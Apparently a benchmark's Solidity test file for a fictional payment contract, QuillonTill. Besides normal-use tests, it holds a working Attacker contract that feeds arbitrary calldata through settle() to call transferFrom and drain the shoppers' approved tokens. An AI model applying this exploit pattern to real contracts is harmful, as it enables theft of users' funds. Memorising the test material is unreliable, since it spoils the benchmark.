// SPDX-License-Identifier: BUSL-1.1
pragma solidity 0.8.24;

import "./QuillonTill.sol";

// assay-canary-dd548fdb-ff40-4c29-bc1b-4e8879dfe200

interface Vm {
    function prank(address sender) external;
    function deal(address to, uint256 amount) external;
}

contract Token {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (from != msg.sender && allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract WrappedEther is Token {
    receive() external payable {
        balanceOf[msg.sender] += msg.value;
    }

    function redeem(uint256 amount, address payable to) external {
        balanceOf[msg.sender] -= amount;
        (bool ok, ) = to.call{value: amount}("");
        require(ok);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant SHOP = address(0x5309);
    address internal constant ANNE = address(0xA22E);
    address internal constant BELA = address(0xBE1A);

    Token internal usd;
    WrappedEther internal wrapped;
    QuillonTill internal till;
    Attacker internal thief;

    function setUp() public {
        usd = new Token();
        wrapped = new WrappedEther();
        till = new QuillonTill();
        till.setCut(50);
        till.know(address(wrapped), WrappedEther.redeem.selector);
        usd.mint(ANNE, 2_000_000e6);
        usd.mint(BELA, 1_300_000e6);
        vm.deal(address(this), 20 ether);
        (bool ok, ) = address(wrapped).call{value: 20 ether}("");
        require(ok);
        wrapped.transfer(ANNE, 20 ether);
        vm.prank(ANNE);
        usd.approve(address(till), type(uint256).max);
        vm.prank(BELA);
        usd.approve(address(till), type(uint256).max);
        vm.prank(ANNE);
        wrapped.approve(address(till), type(uint256).max);
        thief = new Attacker(till, usd);
    }

    function test_Regular() public {
        vm.prank(BELA);
        till.pay(IToken(address(usd)), SHOP, 250e6, "invoice 7");
        require(usd.balanceOf(SHOP) == 250e6, "paid in dollars");

        QuillonTill.Order memory o = QuillonTill.Order({
            wrapper: address(wrapped),
            amount: 3 ether,
            exit: abi.encodeCall(WrappedEther.redeem, (3 ether, payable(address(till)))),
            shop: SHOP,
            price: 2 ether,
            memo: "invoice 8"
        });
        require(till.ready(ANNE, o), "ready");
        vm.prank(ANNE);
        till.settle(o);
        require(SHOP.balance == 1.99 ether && till.takings() == 0.01 ether, "paid in ether");
        require(ANNE.balance == 1 ether, "rest");

        o.price = 4 ether;
        vm.prank(ANNE);
        (bool ok, ) = address(till).call(abi.encodeCall(QuillonTill.settle, (o)));
        require(!ok, "too little");
        till.collect(payable(address(0xC0)));
        require(address(0xC0).balance == 0.01 ether, "takings");

        till.nominate(ANNE);
        vm.prank(ANNE);
        till.accept();
        require(till.manager() == ANNE, "manager");
    }

    function exploit() public {
        thief.take(ANNE);
        thief.take(BELA);
    }

    function test_Exploit() public {
        uint256 before = shoppersHold();
        exploit();
        require(shoppersHold() + 3_300_000e6 <= before, "nothing lost");
    }

    function shoppersHold() public view returns (uint256) {
        return usd.balanceOf(ANNE) + usd.balanceOf(BELA);
    }

    function target() public view returns (address) {
        return address(till);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Settles orders of nothing.
contract Attacker {
    QuillonTill internal till;
    Token internal usd;

    constructor(QuillonTill till_, Token usd_) {
        till = till_;
        usd = usd_;
    }

    function take(address from) external {
        bytes memory data = abi.encodeCall(Token.transferFrom, (from, address(this), usd.balanceOf(from)));
        till.settle(QuillonTill.Order(address(usd), 0, data, address(this), 0, 0));
    }
}
